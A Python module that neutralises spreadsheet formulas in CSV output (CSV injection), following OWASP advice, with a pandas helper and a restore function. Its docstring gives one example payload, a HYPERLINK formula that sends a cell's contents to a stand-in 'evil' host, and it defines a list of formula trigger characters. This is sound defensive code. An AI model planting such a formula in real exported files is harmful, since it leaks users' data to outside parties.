"""Neutralise spreadsheet formulas in the CSV files the engine writes (CSV injection).

A spreadsheet that opens a CSV evaluates a cell starting with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, tab or carriage return) as a formula, so an asset named
``=HYPERLINK("http://evil/?"&A1, "click")`` becomes a live link or command. Following OWASP's
"CSV Injection" advice, :func:`neutralise_cell` prefixes such a TEXT cell with a single quote,
which spreadsheets show as text. Numbers are never touched: a float ``-3.5`` or the text
``"-3.5"`` stays a number. A text cell that already starts with quotes before a trigger gets
one more quote, so :func:`restore_cell` (used when the engine reads its own CSV back) undoes
exactly what was added.

Every CSV writer under ``resilience/`` goes through :func:`neutralise_frame` (pandas) or
:func:`neutralise_cell` (row writers). Imports nothing from ``resilience``.

References
----------
OWASP Foundation, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import math
from typing import TYPE_CHECKING, TypeVar

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "neutralise_frame", "restore_cell"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP), plus their
#: fullwidth forms (U+FF1D, U+FF0B, U+FF0D, U+FF20), which East Asian input methods type:
#: treated as triggers too, since quoting them costs nothing.
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

T = TypeVar("T")
Frame = TypeVar("Frame", bound="pd.DataFrame")


def _is_plain_number(text: str) -> bool:
    """Return True for text a spreadsheet reads as a finite number (``-3.5``, ``+1e3``)."""
    try:
        return math.isfinite(float(text)) and text.strip() == text and text.isascii()
    except ValueError:
        return False


def _needs_quote(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_TRIGGERS) and not _is_plain_number(text)


def neutralise_cell(value: T) -> T | str:
    """Return ``value`` with a ``'`` prefixed if it is text a spreadsheet would run as a formula.

    Parameters
    ----------
    value : object
        A cell. Only ``str`` values are changed; numbers, None and NaN pass through.

    Returns
    -------
    object
        ``"'" + value`` for text starting (after any leading quotes) with one of
        :data:`FORMULA_TRIGGERS` that is not a plain number; otherwise ``value`` itself.
    """
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def restore_cell(value: T) -> T | str:
    """Undo :func:`neutralise_cell`: drop the one quote it added, leave anything else alone.

    Parameters
    ----------
    value : object
        A cell read from a CSV the engine wrote.

    Returns
    -------
    object
        ``value[1:]`` for text starting with ``'`` whose remainder would be quoted again by
        :func:`neutralise_cell`; otherwise ``value`` itself.
    """
    if isinstance(value, str) and value.startswith("'") and _needs_quote(value[1:]):
        return value[1:]
    return value


def _neutralise_series(series: pd.Series) -> pd.Series:
    """Return ``series`` (object) with :func:`neutralise_cell` applied, once per distinct value.

    A RiskTable repeats a few names over millions of rows: testing each distinct value once
    took a 240,000-row table (10 k assets) from 6.2 s to under 0.5 s (profiled).
    """
    import numpy as np
    import pandas as pd

    values = series.astype(object)
    try:
        codes, uniques = pd.factorize(values, use_na_sentinel=True)
    except TypeError:  # unhashable cells: one at a time
        return values.map(neutralise_cell)
    originals = list(uniques)
    changed = np.array([neutralise_cell(u) for u in originals] + [None], dtype=object)
    if all(changed[i] is original for i, original in enumerate(originals)):
        return values
    replaced = changed[codes]  # code -1 (NaN, None) picks the last slot, restored below
    return pd.Series(
        np.where(codes >= 0, replaced, values.to_numpy()), index=series.index, dtype=object
    )


def neutralise_frame(frame: Frame) -> Frame:
    """Return a copy of ``frame`` whose text cells and column names are neutralised.

    Parameters
    ----------
    frame : pandas.DataFrame
        A table about to be written with ``to_csv``.

    Returns
    -------
    pandas.DataFrame
        The same table; numeric, boolean and datetime columns unchanged (so negative numbers
        stay numbers), every ``str`` cell of other columns and every column name passed
        through :func:`neutralise_cell`.
    """
    from pandas.api import types

    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if not (
            types.is_numeric_dtype(series)
            or types.is_bool_dtype(series)
            or types.is_datetime64_any_dtype(series)
        ):
            out[column] = _neutralise_series(series)
    out.columns = [neutralise_cell(name) for name in out.columns]
    return out
